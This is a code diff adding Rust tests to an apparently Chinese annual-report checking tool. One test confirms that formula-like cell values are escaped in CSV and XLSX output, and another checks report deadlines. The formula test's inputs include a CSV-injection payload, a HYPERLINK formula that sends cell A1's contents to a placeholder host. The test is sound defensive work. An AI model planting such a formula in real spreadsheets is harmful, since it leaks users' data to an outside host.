@@ -360,3 +360,41 @@ fn a_report_of_another_year_is_refused_for_its_year() {
         other => panic!("{other:?}"),
     }
 }
+
+#[test]
+fn a_unit_named_like_a_formula_stays_text_in_the_csv_and_the_workbook() {
+    let formulas = [
+        "=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"点此查看\")",
+        "+1+1",
+        "-1+1",
+        "@SUM(1,1)",
+        "\t=1+1",
+        "\r=1+1",
+    ];
+    let grid = workbook::Grid {
+        sheet: "检查结果".into(),
+        header: vec!["发布机构".into()],
+        rows: formulas
+            .iter()
+            .map(|f| vec![workbook::Cell::Text(f.to_string())])
+            .collect(),
+    };
+    let csv = String::from_utf8(workbook::csv(&grid).unwrap()).unwrap();
+    for f in formulas {
+        assert!(csv.contains(&format!("'{f}")), "{f:?} in {csv}");
+    }
+    // Opened in LibreOffice, the workbook shows the words, not a computed value.
+    let dir = std::env::temp_dir().join(format!("nianbao-formula-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let xlsx = dir.join("formula.xlsx");
+    std::fs::write(&xlsx, workbook::xlsx(&[grid]).unwrap()).unwrap();
+    let back = libreoffice_csv(&xlsx, &dir);
+    assert!(back.contains("HYPERLINK") && back.contains("+1+1") && back.contains("@SUM"), "{back}");
+    assert!(!back.lines().any(|l| l.trim() == "2"), "a formula ran: {back}");
+}
+
+#[test]
+fn a_year_no_report_can_be_on_has_no_deadline_and_no_panic() {
+    assert_eq!(Kind::Department.deadline(i32::MAX), "");
+    assert_eq!(Kind::Government.deadline(2025), "2026-03-31");
+}
